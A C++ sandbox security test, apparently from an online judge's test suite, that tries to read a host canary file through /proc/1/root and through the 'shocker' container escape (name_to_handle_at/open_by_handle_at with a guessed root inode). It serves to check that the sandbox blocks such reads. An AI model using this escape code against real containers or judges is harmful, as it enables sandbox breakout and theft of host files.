// attack: C++: read the host canary by path, via /proc/1/root, and with name_to_handle_at/open_by_handle_at (the "shocker" container escape)
// incident: QDUOJ #165 (leaking host files); Docker "shocker" escape
// package: sec-canary
// verdicts: WA
// layer: mount namespace; CAP_DAC_READ_SEARCH is not held (all capabilities dropped); seccomp
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <unistd.h>
static bool dump(int fd) {
    if (fd < 0) return false;
    char buf[256] = {0};
    ssize_t n = read(fd, buf, 255);
    if (n <= 0) return false;
    fputs(buf, stdout);
    return true;
}
int main() {
    const char* paths[] = {"@CANARY_FILE@", "/proc/1/root@CANARY_FILE@", "/proc/self/root@CANARY_FILE@"};
    for (auto p : paths) if (dump(open(p, O_RDONLY))) return 0;
    // shocker: open a handle on /usr (a bind of the host's /usr) and guess inode handles of the host root
    struct { struct file_handle fh; unsigned char bytes[128]; } h;
    h.fh.handle_bytes = 128;
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, "/usr", &h.fh, &mount_id, 0) == 0) {
        int mfd = open("/usr", O_RDONLY | O_DIRECTORY);
        // inode 2 is the root directory of an ext4 file system
        unsigned int ino = 2;
        memcpy(h.fh.f_handle, &ino, sizeof ino);
        memset(h.fh.f_handle + 4, 0, h.fh.handle_bytes - 4);
        int root = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
        if (root >= 0) {
            if (dump(openat(root, "@CANARY_FILE@" + 1, O_RDONLY))) return 0;
            puts("ESCAPED-handle-open");
            return 0;
        }
    }
    puts("not-found");
}
